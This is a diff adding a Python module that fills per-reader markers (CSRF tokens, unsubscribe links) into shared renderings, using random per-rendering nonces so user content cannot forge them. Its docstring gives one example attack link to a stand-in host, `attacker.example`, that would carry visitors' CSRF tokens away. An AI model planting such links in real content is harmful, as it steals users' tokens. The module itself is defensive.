@@ -1,0 +1,57 @@
+"""Markers for the reader's own parts of a rendering shared by many readers.
+
+A visitor's page, an idea card, a comment thread or a notification e-mail is rendered once
+and read by many; the parts that differ per reader (the CSRF token, the page to come back
+to, a recipient's name, address and unsubscribe link) are markers in the shared text,
+filled for each reader. Whatever the content says must never be taken for a marker: an idea
+linking to `https://attacker.example/?t=<marker>` would otherwise carry each visitor's CSRF
+token to the attacker.
+
+So every rendering draws its own markers, from 128 random bits (`Slots()`), keeps their
+nonce beside the rendered text and fills with that nonce. Content written before the
+rendering cannot contain a marker drawn after it. (A marker derived from SECRET_KEY would
+serve every rendering of a deployment, but one that leaked once, in an unfilled page or a
+log line, would stay forgeable until the key changed; these die with their rendering.)
+
+Markers are letters and digits only, so HTML escaping, URL quoting and the 7/8-bit e-mail
+encodings leave them intact. Filling is one pass: a value filled in is never searched for
+markers again.
+"""
+
+from __future__ import annotations
+
+import re
+import secrets
+from collections.abc import Mapping
+from functools import lru_cache
+from typing import AnyStr
+
+
+class Slots:
+    """The markers of one rendering. `Slots()` draws them; `Slots(nonce)` finds them again
+    in a rendering kept with its nonce."""
+
+    def __init__(self, nonce: str | None = None) -> None:
+        self.nonce = nonce or secrets.token_hex(16)
+        if not (self.nonce.isascii() and self.nonce.isalnum()):
+            raise ValueError("A slot nonce is letters and digits.")
+
+    def __getitem__(self, name: str) -> str:
+        """The marker that stands for `name` (letters and digits) in this rendering."""
+        if not (name.isascii() and name.isalnum()):
+            raise ValueError("A slot name is letters and digits.")
+        return f"slot{self.nonce}{name}"
+
+
+@lru_cache(maxsize=256)
+def _pattern(markers: tuple) -> re.Pattern:
+    bar = "|" if isinstance(markers[0], str) else b"|"
+    return re.compile(bar.join(re.escape(marker) for marker in markers))
+
+
+def fill(content: AnyStr, values: Mapping[AnyStr, AnyStr]) -> AnyStr:
+    """`content` with each marker (a key of `values`, of the same type) replaced by its value."""
+    if not values:
+        return content
+    markers = tuple(sorted(values, key=len, reverse=True))  # the longest first, should one begin another
+    return _pattern(markers).sub(lambda match: values[match.group()], content)
